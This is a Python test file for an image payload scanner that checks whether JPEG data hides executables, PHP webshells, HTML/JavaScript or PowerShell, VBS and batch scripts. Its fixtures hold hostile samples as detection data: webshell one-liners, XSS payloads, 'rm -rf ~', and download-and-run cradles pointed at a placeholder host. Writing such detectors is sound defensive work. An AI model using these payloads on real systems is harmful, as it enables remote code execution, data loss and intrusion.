"""Payload classification and marker search: real payloads found, random data quiet."""

from __future__ import annotations

import random
import struct

import pytest
from jpeg_samples import HTML, PHP, pe_executable, photo, zip_archive

from agent.inspect import payload
from agent.inspect.limits import WINDOW_BYTES
from agent.inspect.payload import classify, find_markers, find_markers_in_bytes
from agent.inspect.reader import Reader
from agent.inspect.signatures import START_MAGICS, script_kind
from agent.inspect.sniff import sniff

EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


@pytest.mark.parametrize(
    ("data", "kind", "dangerous"),
    [
        (b"", "zeros", False),
        (bytes(5000), "zeros", False),
        (b"  \r\n\t  \n", "whitespace", False),
        (pe_executable(), "pe", True),
        (b"\x7fELF\x02\x01\x01" + bytes(64), "elf", True),
        (zip_archive(), "zip", True),
        (b"%PDF-1.4\n1 0 obj\n", "pdf", True),
        (HTML, "html", True),
        (PHP, "php", True),
        (b"#!/bin/sh\nrm -rf ~\n", "shell", True),
        (EICAR, "eicar", True),
        (photo(), "jpeg", False),
        (b"Rar!\x1a\x07\x01\x00" + bytes(30), "rar", True),
        (b"plain words after the end of a picture\n", "text", False),
    ],
)
def test_classify_start(data: bytes, kind: str, dangerous: bool) -> None:
    found = classify(data)
    assert (found.kind, found.dangerous) == (kind, dangerous)
    assert found.size == len(data)


def test_classify_finds_signatures_inside() -> None:
    junk = random.Random(1).randbytes(3000)
    assert classify(junk + zip_archive()).kind == "zip"  # EOCD at the end
    assert classify(b"garbage " + PHP).kind == "php"
    assert classify(junk + b"<?php __HALT_COMPILER(); ?>").kind == "php"
    inner = classify(b"xx" + pe_executable())
    assert inner.kind == "pe" and inner.offset == 2


def test_entropy() -> None:
    assert payload.entropy(bytes(1000)) == 0.0
    assert payload.entropy(bytes(range(256)) * 4) == pytest.approx(8.0)
    blob = classify(random.Random(2).randbytes(20_000))
    assert blob.kind == "unknown" and blob.entropy > payload.HIGH_ENTROPY_BITS
    assert not blob.dangerous


def test_markers_in_metadata_text() -> None:
    text = b"nice <?=$_GET[0]($_POST[1]);?> and <svg a ONmouseOVER=alert(1)> ok"
    kinds = [m.kind for m in find_markers_in_bytes(text)]
    assert "php" in kinds and "html" in kinds and "script" in kinds
    assert find_markers_in_bytes(b"Coordinate system (WGS84); alert level 3") == []
    assert find_markers_in_bytes(b"Photo by Dr. Mz at the clinic") == []  # no PE behind MZ


def test_weak_markers_only_when_asked() -> None:
    text = b'x alert("hi") y'
    assert [m.kind for m in find_markers_in_bytes(text, strong_only=False)] == ["script"]
    assert find_markers_in_bytes(text, strong_only=True) == []


def test_markers_validate_short_magics() -> None:
    reader = Reader.from_bytes(b"abc" + pe_executable() + b"MZ nothing" + b"PK\x03\x04xx")
    markers = find_markers(reader, 0, reader.size, True)
    assert [(m.offset, m.kind) for m in markers] == [(3, "pe")]


def test_pixel_pass_finds_only_angle_markers() -> None:
    data = b"\x00" * 100 + b"<?phpinfo()?>" + b"\x11" * 50 + b"<SCRIPT>" + pe_executable()
    reader = Reader.from_bytes(data)
    found = find_markers(reader, 0, reader.size, True, pixel_data=True)
    assert [(m.offset, m.kind) for m in found] == [(100, "php"), (163, "html")]


def test_markers_across_window_edges() -> None:
    filler = bytes(payload._LOWERED_WINDOW_BYTES - 3)
    reader = Reader.from_bytes(filler + b"<?php system($_GET['c']); ?>" + bytes(100))
    found = find_markers(reader, 0, reader.size, False)
    assert found and found[0].offset == len(filler)


def test_random_compressed_data_has_no_strong_markers() -> None:
    # 8 MB of seeded random bytes stand in for compressed pixel data.
    data = random.Random(1234).randbytes(8 * 1024 * 1024)
    reader = Reader.from_bytes(data)
    assert find_markers(reader, 0, reader.size, True, pixel_data=True) == []
    assert find_markers(reader, 0, reader.size, True) == []


def test_first_non_zero() -> None:
    size = WINDOW_BYTES * 2 + 10
    data = bytearray(size)
    reader = Reader.from_bytes(bytes(data))
    assert payload.first_non_zero(reader, 0, size) == -1
    data[WINDOW_BYTES + 5] = 1
    reader = Reader.from_bytes(bytes(data))
    assert payload.first_non_zero(reader, 3, size) == WINDOW_BYTES + 5
    assert payload.first_non_zero(reader, 0, WINDOW_BYTES + 5) == -1
    # a chunk boundary: the non-zero byte is the first byte of the second 1 MiB chunk
    data = bytearray(3 * 1024 * 1024)
    data[1024 * 1024] = 7
    assert Reader.from_bytes(bytes(data)).first_non_zero(0, len(data)) == 1024 * 1024
    assert Reader.from_bytes(bytes(data)).first_non_zero(0, 1024 * 1024) == -1


# --- suggestive markers: prose stays quiet, code is proven -----------------------------------

CLINIC_PROSE = [
    b"Allergy alert (penicillin) - see chart before treatment.",
    b"Post-op wound eval (day 3), healing well.",
    b"Post-op wound eval(day 3), healing well.",  # no space: one suggestive marker, no proof
    b"Allergy alert(penicillin); seen by Dr. Evans",
    b"Answered the prompt(s) on the intake form",
    b"Medieval(ish) frame, retrieval(2) of records",  # inside words: no marker at all
    b"<rdf:li xml:lang='x-default'>Allergy alert(penicillin)</rdf:li>",  # XMP prose
    b'<rdf:Description dc:note="wound eval(day 3)" xmlns:dc="x"/>',  # namespaced tag
    b"Our booking system sends reminders; call 555-0100 to reschedule.",
]


@pytest.mark.parametrize("prose", CLINIC_PROSE)
def test_clinic_prose_is_not_conclusive(prose: bytes) -> None:
    markers = find_markers_in_bytes(prose)
    assert not payload.conclusive(markers), markers
    assert all(m.suggestive for m in markers)
    assert not classify(prose).dangerous


def test_suggestive_marker_needs_no_space_and_a_word_start() -> None:
    assert find_markers_in_bytes(b"Allergy alert (penicillin)") == []
    assert find_markers_in_bytes(b"retrieval(2)") == []
    [marker] = find_markers_in_bytes(b"window.alert(1)")
    assert marker.suggestive and marker.text == b"alert("


@pytest.mark.parametrize(
    "code",
    [
        b"eval(atob('ZG9jdW1lbnQ='))",  # two different suggestive markers
        b"<img src=x onerror=alert(1)>",  # inside an HTML tag
        b"<body onload=init()>",
        b'" autofocus onfocus=alert(1) x="',  # after an on...= handler
        b'*/=0;alert("Hello");',  # a JS polyglot closing its comment
        b"x=1;prompt(document)",
        b"Prescription script renewed; photo by Dr. Evans <script>x</script>",  # strong
        b"see /etc/passwd",  # telling
    ],
)
def test_code_is_conclusive(code: bytes) -> None:
    markers = find_markers_in_bytes(code)
    assert markers and payload.conclusive(markers)


def test_same_suggestive_pattern_twice_is_still_one() -> None:
    markers = find_markers_in_bytes(b"eval(day 3) and eval(day 5)")
    assert len(markers) == 2 and not payload.conclusive(markers)


# --- script trailers (patterns shared with sniff) --------------------------------------------


@pytest.mark.parametrize(
    ("script", "kind"),
    [
        (
            b"IEX (New-Object Net.WebClient).DownloadString('http://x.invalid/a.ps1')\r\n",
            "powershell",
        ),
        (
            b"$c = [Convert]::FromBase64String('AAAA'); [Reflection.Assembly]::Load($c)",
            "powershell",
        ),
        (b"Start-Process -WindowStyle Hidden cmd.exe -ArgumentList '/c calc'\r\n", "powershell"),
        (b'Set o = CreateObject("WScript.Shell")\r\no.Run "calc.exe", 0\r\n', "vbs"),
        (b"On Error Resume Next\r\nExecute(Chr(77) & Chr(115))\r\n", "vbs"),
        (b'Dim http\r\nSet http = CreateObject("MSXML2.XMLHTTP")\r\n', "vbs"),
        (b"@echo off\r\nstart /b calc.exe\r\ndel %~f0\r\n", "batch"),
        (b"set p=%TEMP%\\a.exe\r\nbitsadmin /transfer j http://x.invalid/a %p%\r\n", "batch"),
        (b"var s = new ActiveXObject('WScript.Shell'); s.Run('calc.exe');", "script"),
        (
            b"(function(){var d=document.createElement('script');d.src='//x.invalid/a.js';})();",
            "script",
        ),
    ],
)
def test_script_trailers_are_dangerous(script: bytes, kind: str) -> None:
    for blob in (script, b"\r\n" + script, bytes(200) + script, script + bytes(100)):
        found = classify(blob)
        assert (found.kind, found.dangerous) == (kind, True), blob
        assert blob[found.offset :].startswith(script.lstrip()[:4]) or kind != "powershell"


@pytest.mark.parametrize(
    "prose",
    [
        b"Dear doctor, please start the exam at nine.\nThanks\n",
        b"Set up the chair.\nStart the scanner.\nCall the patient.\n",
        b"Dim lighting, please.\nSub total (2 items) paid.\n",
        b"Goto reception first.\nDel Mar clinic, if exist notes.\nStart scan.exe later\n",
        b"Function (renal) normal. Var. noted. Let it heal.\n",
        b"Java, Python and JavaScript workshop flyer for staff training.\n",
    ],
)
def test_prose_trailers_are_text(prose: bytes) -> None:
    found = classify(prose)
    assert (found.kind, found.dangerous) == ("text", False)


# --- padding before a payload, fat Mach-O, shared signature table ----------------------------


@pytest.mark.parametrize("padding", [b"\x00" * 8, b"\x00" * 300, b" \r\n\t" * 50, b"\x00\n" * 99])
def test_payload_after_padding_is_found_at_its_offset(padding: bytes) -> None:
    for body, kind in ((pe_executable(), "pe"), (PHP, "php"), (zip_archive(), "zip")):
        found = classify(padding + body)
        assert (found.kind, found.dangerous) == (kind, True)
        if kind != "zip":  # a ZIP is found by its directory at the end
            assert found.offset == len(padding)


def test_padding_is_skipped_only_up_to_its_bound() -> None:
    bound = payload.MAX_LEADING_PADDING_BYTES
    assert payload.leading_padding(b"\x00 \n\tX") == 4
    assert payload.leading_padding(bytes(bound + 10) + b"X") == bound


def test_fat_macho_and_java_class() -> None:
    fat = b"\xca\xfe\xba\xbe" + struct.pack(">I", 2) + bytes(40) + random.Random(3).randbytes(300)
    assert (classify(fat).kind, classify(fat).dangerous) == ("macho", True)
    java = b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + bytes(200)
    assert (classify(java).kind, classify(java).dangerous) == ("java_class", True)
    neither = b"\xca\xfe\xba\xbe\x00\x00\x00\x00" + bytes(200)  # no archs, no class version
    assert classify(neither).kind == "unknown"


def test_payload_and_sniff_share_the_start_signatures() -> None:
    for magic in START_MAGICS:
        blob = magic.prefix + bytes(64)
        assert classify(blob).kind == magic.type, magic
        sniffed = sniff(Reader.from_bytes(blob)).type
        assert sniffed == magic.type or (magic.type, sniffed) == ("gzip", "gzip"), magic


def test_random_data_is_no_script() -> None:
    for seed in range(4):
        blob = random.Random(seed).randbytes(payload.SCRIPT_SAMPLE_BYTES)
        assert script_kind(blob) is None
        assert not classify(blob).dangerous


def test_pixel_pass_finds_php_short_echo_through_backticks() -> None:
    data = b"\x10" * 40 + b"<?=`$_GET[0]`?>" + b"\x20" * 40
    found = find_markers(Reader.from_bytes(data), 0, len(data), True, pixel_data=True)
    assert [(m.offset, m.kind) for m in found] == [(40, "php")]
    assert find_markers_in_bytes(b"<?= 'Hello' ?> <?=$x?>", strong_only=True) == []
